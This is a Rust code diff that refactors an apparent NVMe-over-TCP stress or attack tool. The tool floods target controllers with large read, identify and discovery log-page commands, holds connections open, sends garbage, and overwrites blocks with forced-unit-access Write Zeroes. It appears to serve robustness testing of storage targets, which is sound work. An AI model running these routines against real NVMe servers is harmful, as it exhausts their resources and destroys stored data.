@@ -5,7 +5,7 @@ use std::net::TcpStream;
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::Duration;
 
-use fabric::host::commands::identify;
+use fabric::host::commands::{identify, log_page};
 use fabric::nvme::{SglDescriptor, Sqe, opcode};
 use zerocopy::little_endian::U32;
 
@@ -122,9 +122,7 @@ impl Attack {
         for n in 0..6 {
             let mut queues = self.queues(target, n, 1)?;
             if let Some(queue) = queues.first_mut() {
-                for cid in 0..COMMANDS {
-                    queue.send(&command(cid), SglDescriptor::transport(LARGE), &[])?;
-                }
+                send_all(queue, command)?;
             }
             all.append(&mut queues);
         }
@@ -137,9 +135,7 @@ impl Attack {
         let mut bytes = vec![0; 64 << 10];
         while !over.load(Ordering::Relaxed) {
             for queue in &mut queues {
-                for cid in 0..COMMANDS {
-                    queue.send(&large_read(cid), SglDescriptor::transport(LARGE), &[])?;
-                }
+                send_all(queue, large_read)?;
             }
             let mut left = 2 * usize::from(COMMANDS) * LARGE as usize;
             while left > 0 && !over.load(Ordering::Relaxed) {
@@ -180,9 +176,7 @@ impl Attack {
         let identify = Raw::capsule(&identify(1, 0), SglDescriptor::transport(4096), &[]);
         let many = identify.repeat(30);
         let mut answers = vec![0; 256 << 10];
-        for Raw(stream) in &controllers {
-            stream.set_nonblocking(true)?;
-        }
+        controllers.iter().try_for_each(|Raw(stream)| stream.set_nonblocking(true))?;
         while !over.load(Ordering::Relaxed) {
             for Raw(stream) in &controllers {
                 // Capsules that are cut in two would end the connection: only whole ones go out,
@@ -210,19 +204,11 @@ impl Attack {
 
     fn keep_log_pages(self, target: &Target, over: &AtomicBool) -> Result<()> {
         /// Discovery log page.
-        const DISCOVERY: u32 = 0x70;
+        const DISCOVERY: u8 = 0x70;
         let controllers = discovery(self, target, 200)?;
-        let dwords = LARGE / 4 - 1;
-        let log = Sqe {
-            opcode: opcode::admin::GET_LOG_PAGE,
-            cdw10: U32::new(DISCOVERY | dwords << 16),
-            cdw11: U32::new(dwords >> 16),
-            ..Sqe::default()
-        };
+        let log = log_page(DISCOVERY, 0, LARGE);
         let many = Raw::capsule(&log, SglDescriptor::transport(LARGE), &[]).repeat(30);
-        for Raw(stream) in &controllers {
-            (&mut &*stream).write_all(&many)?;
-        }
+        controllers.iter().try_for_each(|Raw(stream)| (&mut &*stream).write_all(&many))?;
         hold(&controllers, over)
     }
 
@@ -246,22 +232,26 @@ impl Attack {
     fn write_zeroes(self, target: &Target, over: &AtomicBool) -> Result<()> {
         let mut queues = self.queues(target, 0, 1)?;
         let Some(queue) = queues.first_mut() else { return Ok(()) };
-        let mut cid = 0;
-        for n in 0u32.. {
+        // FUA is bit 30 of CDW12.
+        let zeroes = io(opcode::io::WRITE_ZEROES, FIRST_BLOCK, 8192);
+        let fua = Sqe { cdw12: U32::new(zeroes.cdw12.get() | 1 << 30), ..zeroes };
+        for (n, cid) in (0u32..).zip((0..COMMANDS).cycle()) {
             if over.load(Ordering::Relaxed) {
                 break;
             }
-            // FUA is bit 30 of CDW12.
-            let zeroes = io(opcode::io::WRITE_ZEROES, FIRST_BLOCK, 8192);
-            let fua = Sqe { cdw12: U32::new(zeroes.cdw12.get() | 1 << 30), ..zeroes };
             queue.send(&numbered(fua, cid, n % 2 + 1), SglDescriptor::default(), &[])?;
-            cid = (cid + 1) % COMMANDS;
             if n >= u32::from(COMMANDS) - 1 {
                 queue.receive()?;
             }
         }
         Ok(())
     }
+}
+
+/// Fills a queue with large commands.
+fn send_all(queue: &mut Raw, command: fn(u16) -> Sqe) -> Result<()> {
+    let sgl = SglDescriptor::transport(LARGE);
+    (0..COMMANDS).try_for_each(|cid| queue.send(&command(cid), sgl, &[]))
 }
 
 fn large_read(cid: u16) -> Sqe {
@@ -293,9 +283,7 @@ fn send_garbage(target: &Target, over: &AtomicBool) -> Result<()> {
 
 /// Keeps connections until `over` or until the target has ended one of them.
 fn hold(all: &[Raw], over: &AtomicBool) -> Result<()> {
-    for Raw(stream) in all {
-        stream.set_nonblocking(true)?;
-    }
+    all.iter().try_for_each(|Raw(stream)| stream.set_nonblocking(true))?;
     while !over.load(Ordering::Relaxed) {
         for Raw(stream) in all {
             match stream.peek(&mut [0]) {
